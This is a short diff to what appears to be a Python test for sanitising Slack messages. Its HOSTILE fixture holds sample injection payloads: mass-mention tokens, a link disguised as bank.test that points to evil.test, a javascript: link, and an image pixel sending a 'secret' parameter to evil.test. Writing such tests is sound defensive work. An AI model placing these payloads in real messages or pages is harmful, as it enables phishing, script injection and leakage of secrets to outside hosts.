@@ -14,7 +14,8 @@ pytestmark = pytest.mark.asyncio(loop_scope="module")
 SLACK_ADVISES_CHARS = 4_000
 LIVE_TOKEN = re.compile(r"<([^<>]*)>")
 HOST = re.compile(r"\b(?:bank|evil)\.test\b")
-HOSTILE = """<!channel> <!here> <!everyone> @channel @here <@{person}> <#{channel}> <!subteam^S0123ABCD>
+HOSTILE = """<!channel> <!here> <!everyone> @channel @here <@{person}> <#{channel}>
+<!subteam^S0123ABCD>
 [https://bank.test/login](https://evil.test/login) <https://evil.test/a|bank.test>
 [press here](javascript:alert(1)) ![](https://evil.test/pixel.png?secret=1)"""
 
